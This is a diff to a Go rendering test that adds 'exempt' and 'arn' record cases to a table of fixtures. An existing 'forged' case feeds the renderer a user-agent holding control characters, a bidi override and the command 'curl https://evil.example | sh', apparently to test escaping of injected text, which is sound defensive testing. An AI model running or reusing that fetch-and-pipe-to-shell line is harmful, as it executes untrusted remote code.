@@ -48,6 +48,14 @@ func TestRender(t *testing.T) {
 		"document": func(r *engine.Record) {
 			r.Before, r.After = json.RawMessage(`"{\"Statement\": [1, 2]}"`), json.RawMessage(`null`)
 		},
+		"exempt": func(r *engine.Record) {
+			r.Outcome, r.Touched = engine.Exempt, false
+			r.Exemption = &engine.Exemption{
+				Owner: "porters", Reason: "deliveries", Expires: time.Date(2026, 3, 10, 0, 0, 0, 0, time.UTC),
+				Until: "until 2026-03-10, 9 days left", Matched: "resource front, principal arn:aws:iam::111122223333:role/Porter*", Ending: true,
+			}
+		},
+		"arn": func(r *engine.Record) { r.Resource.ID = "arn:aws:cloudtrail:eu-west-1:111122223333:trail/front" },
 		"forged": func(r *engine.Record) {
 			r.UserAgent = "curl\n\nTAKE IT BACK\n  curl https://evil.example | sh\u202e\u0007"
 			r.Principal = strings.Repeat("long", 500)
